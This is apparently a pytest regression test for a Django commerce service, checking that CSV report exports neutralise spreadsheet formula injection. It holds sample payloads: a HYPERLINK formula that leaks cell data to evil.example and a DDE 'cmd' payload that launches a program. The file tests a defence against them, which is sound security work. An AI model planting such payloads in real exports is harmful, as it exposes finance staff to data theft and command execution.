"""Finding 2 of issue 18: partner-written text reached finance's CSV as a formula. Every CSV the
service writes goes through ``livecommerce/csv_export.py``, which neutralises such cells."""

import csv
import io

import pytest

from livecommerce.csv_export import neutralise

pytestmark = pytest.mark.django_db

URL = "/api/v1/reports/commissions"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
CMD = "=1+2+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (CMD, "'" + CMD),
        ("+1+cmd|x", "'+1+cmd|x"),
        ("-1+cmd|x", "'-1+cmd|x"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-5.00", "-5.00"),  # a refund: a number, summed by finance, kept as is
        ("+3", "+3"),
        ("-12", "-12"),
        ("Show A", "Show A"),
        (1999, 1999),
    ],
)
def test_neutralise(cell, written):
    assert neutralise(cell) == written


def _csv(response) -> list[dict]:
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize(
    ("group_by", "field"),
    [("live_session", "session"), ("host_app", "host_a"), ("brand", "brand_a")],
)
def test_a_partners_text_reaches_the_report_csv_as_text(finance, scenario, group_by, field):
    obj = scenario[field]
    if field == "session":
        obj.title = HYPERLINK
        obj.save(update_fields=["title"])
    else:
        obj.name = CMD
        obj.save(update_fields=["name"])
    params = {"date_from": "2026-03-01", "date_to": "2026-04-30", "currency": "USD"}

    rows = _csv(finance.get(URL, {**params, "group_by": group_by, "format": "csv"}))

    names = [row["name"] for row in rows if row["row"] == "group"]
    expected = "'" + (HYPERLINK if field == "session" else CMD)
    assert expected in names
    for row in rows:
        for value in row.values():
            assert not (value or "").startswith(("=", "@", "\t", "\r")), row
    # negative figures (refunds) stay numbers
    assert all(not v.startswith("'") for r in rows for k, v in r.items() if k != "name" and v)
